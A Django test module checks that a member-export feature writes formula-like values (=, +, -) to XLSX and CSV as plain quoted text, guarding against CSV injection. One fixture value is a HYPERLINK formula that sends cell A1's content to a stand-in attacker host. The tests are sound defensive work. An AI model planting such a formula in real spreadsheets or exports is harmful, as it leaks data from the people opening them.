"""Exports never hand a spreadsheet program a live formula: text that begins with =, +, -, @, a
tab or a carriage return comes out as text (OWASP's rule on CSV injection), numbers and dates
as they are."""

import csv
import io

from django.urls import reverse
from openpyxl import load_workbook

from grassroots.organizations.models import Unit

from .page_helpers import admit

EXPORT = reverse("members:member_export")
NAME = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_a_member_named_like_a_formula_is_exported_to_xlsx_as_a_text_cell(
    tree, personas, as_persona
):
    admit(tree.cell_a1, full_name=NAME, occupation="+1")
    Unit.objects.filter(pk=tree.cell_a1.pk).update(name="-Chi bộ 1")
    response = as_persona("manager_a").get(EXPORT, {"unit": tree.cell_a1.pk, "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(body(response))).worksheets[0]
    header = [c.value for c in sheet[1]]
    row = {title: cell for title, cell in zip(header, sheet[2], strict=True)}
    for title, text in (("Full name", NAME), ("Occupation", "+1"), ("Unit", "-Chi bộ 1")):
        assert (row[title].data_type, row[title].value, row[title].quotePrefix) == ("s", text, True)
    assert row["Date of birth"].is_date and row["Date of birth"].value.year == 1990
    assert row["Party card number"].value is None or row["Party card number"].data_type == "s"


def test_a_member_named_like_a_formula_is_exported_to_csv_behind_a_quote(
    tree, personas, as_persona
):
    member = admit(tree.cell_a1, full_name=NAME, occupation="+1")
    response = as_persona("manager_a").get(EXPORT, {"unit": tree.cell_a1.pk, "format": "csv"})
    header, row = list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"))))
    values = dict(zip(header, row, strict=True))
    assert values["Full name"] == "'" + NAME and values["Occupation"] == "'+1"
    assert values["Date of birth"] == member.birth_date.strftime("%d/%m/%Y")
